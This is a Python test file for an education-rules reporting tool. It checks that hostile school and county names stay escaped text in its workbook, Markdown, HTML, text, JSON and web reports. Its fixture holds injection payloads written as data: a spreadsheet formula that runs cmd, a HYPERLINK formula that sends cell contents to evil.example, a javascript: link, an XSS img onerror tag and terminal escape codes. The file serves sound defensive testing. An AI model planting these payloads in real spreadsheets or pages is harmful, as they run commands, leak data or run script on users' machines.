"""Hostile names through every format: never a formula, a live link, a raw control character.

A county's document is valid input whatever its names say, so a school may be named
``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0`` or ``[x](javascript:alert(1))``, and a
unit's name may hold a control character.  Each report shows such a name as written
and acts on nothing: a workbook stores it as text (with Excel's quote prefix), Markdown
escapes its link and image syntax, HTML escapes its markup, and every format shows a
control character escaped (``\\x01``) instead of failing (it used to make
``--format xlsx`` exit 3 and the web report answer 500).
"""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

openpyxl = pytest.importorskip("openpyxl")

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"

UNIT = '鹿寨县=HYPERLINK("http://evil.example/","x")\x01'
SCHOOLS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "[点我](javascript:alert(1))",
    "![](http://evil.example/pixel.png)",
    "<img src=x onerror=alert(1)>小学",
    "城中区\x1b[31m小学\x07",
)


@pytest.fixture(scope="module", name="hostile")
def _hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """鹿寨县 with hostile names on its unit and its first schools."""
    document = json.loads((EXAMPLES / "450223-luzhai.json").read_text(encoding="utf-8"))
    document["name"] = UNIT
    for school, name in zip(document["schools"], SCHOOLS, strict=False):
        school["name"] = name
    path = tmp_path_factory.mktemp("hostile") / "luzhai.json"
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return path


def _run(*args: str | Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "edu_rules.cli", *map(str, args)],
        capture_output=True,
        check=False,
        timeout=180,
    )


def _cells(workbook_bytes: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _assert_text_only(cells: list, *, escaped: bool) -> None:
    """No cell is a formula; every hostile name is there as text, marked as typed text."""
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    for name in SCHOOLS[:5]:
        found = [cell for cell in texts if name in cell.value]
        assert found, name
        starting = [cell for cell in found if cell.value.startswith(name)]
        assert all(cell.quotePrefix for cell in starting)
    if escaped:
        assert not [cell.value for cell in texts if re.search("[\x00-\x08\x0b-\x1f]", cell.value)]
        assert any("\\x01" in cell.value for cell in texts)


class TestWorkbooks:
    def test_the_results_workbook_keeps_names_as_text(self, hostile: Path, tmp_path: Path) -> None:
        """``--format xlsx``: exit 1 (鹿寨县 fails), names as text, the control character shown."""
        out = tmp_path / "results.xlsx"

        completed = _run("evaluate", hostile, "--format", "xlsx", "-o", out)

        assert completed.returncode == 1, completed.stderr.decode()
        _assert_text_only(_cells(out.read_bytes()), escaped=True)

    def test_the_monitoring_workbook_keeps_names_as_text(self, hostile: Path) -> None:
        """The monitoring report's workbook, built from the same document."""
        from edu_rules.monitoring.monitor import load_panel, monitor
        from edu_rules.monitoring.report import render

        result = monitor(load_panel([hostile]), remedies=True)
        workbook = render(result, "xlsx", "zh")

        assert isinstance(workbook, bytes)
        cells = _cells(workbook)
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert any(isinstance(c.value, str) and "\\x01" in c.value for c in cells)

    def test_a_county_form_keeps_a_formula_like_name_exactly(self, tmp_path: Path) -> None:
        """``convert`` to a workbook and back: the names come back exactly, never computed."""
        document = json.loads((EXAMPLES / "450223-luzhai.json").read_text(encoding="utf-8"))
        document["name"] = "=1+1"  # a form keeps its data exactly, so no control character
        forms = [name for name in SCHOOLS if "\x1b" not in name]
        for school, name in zip(document["schools"], forms, strict=False):
            school["name"] = name
        source, workbook, back = (tmp_path / n for n in ("in.json", "form.xlsx", "back.json"))
        source.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")

        assert _run("convert", source, workbook).returncode == 0
        assert _run("convert", workbook, back).returncode == 0

        returned = json.loads(back.read_text(encoding="utf-8"))
        assert returned["name"] == "=1+1"
        assert [s["name"] for s in returned["schools"][: len(forms)]] == forms
        cells = _cells(workbook.read_bytes())
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value == "=1+1")


def _outside_charts(markdown: str) -> str:
    """The Markdown without its inline SVG charts (raw HTML, escaped as HTML)."""
    return re.sub(r"<svg.*?</svg>", "", markdown, flags=re.DOTALL)


class TestTextFormats:
    def test_markdown_shows_links_and_images_as_text(self, hostile: Path) -> None:
        """No ``[..](..)``, ``![..]``, tag or bare address survives unescaped outside the charts."""
        completed = _run("evaluate", hostile, "--format", "markdown")

        assert completed.returncode == 1
        text = _outside_charts(completed.stdout.decode("utf-8"))
        assert "\\[点我\\](javascript:alert(1))" in text
        assert "!\\[\\](http\\://evil.example/pixel.png)" in text
        assert re.search(r"(?<!\\)\[[^\]]*\]\(", text) is None  # no live link or image
        assert re.search(r"(?<!\\)https?://evil", text) is None  # no bare address either
        assert "<img" not in text
        assert "\x1b" not in text
        assert "\x01" not in text

    def test_the_plan_in_markdown_escapes_names_too(self, hostile: Path) -> None:
        """``plan --format markdown`` names the unit without a live link."""
        document = json.loads(hostile.read_text(encoding="utf-8"))
        assert document["name"] == UNIT

        completed = _run("plan", hostile, "--format", "markdown")

        assert completed.returncode in {0, 1}, completed.stderr.decode()
        text = completed.stdout.decode("utf-8")
        assert "\x01" not in text
        assert "http\\://evil.example" in text
        assert re.search(r"(?<!\\)https?://evil", text) is None

    @pytest.mark.parametrize("fmt", ["html", "text", "json"])
    def test_other_formats_escape_what_they_must(self, hostile: Path, fmt: str) -> None:
        """HTML escapes markup; text escapes control characters; JSON keeps the data exactly."""
        completed = _run("evaluate", hostile, "--format", fmt)

        assert completed.returncode == 1, completed.stderr.decode()
        out = completed.stdout.decode("utf-8")
        if fmt == "json":
            assert json.loads(out)["county"]["name"] == UNIT
            return
        assert "\x01" not in out
        assert "\x1b" not in out
        if fmt == "html":
            assert "<img src=x" not in out
            assert "&lt;img src=x onerror=alert(1)&gt;" in out


def test_the_web_report_of_a_hostile_unit_is_a_page_not_an_error(hostile: Path) -> None:
    """The web report with every download, the workbook included: 200, not 500."""
    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from edu_rules.web import Settings, create_app

    with TestClient(create_app(Settings(workers=1))) as client:
        page = client.post("/report", files={"file": ("luzhai.json", hostile.read_bytes())})

    assert page.status_code == 200
    assert "\x01" not in page.text
    assert "&lt;img src=x" in page.text
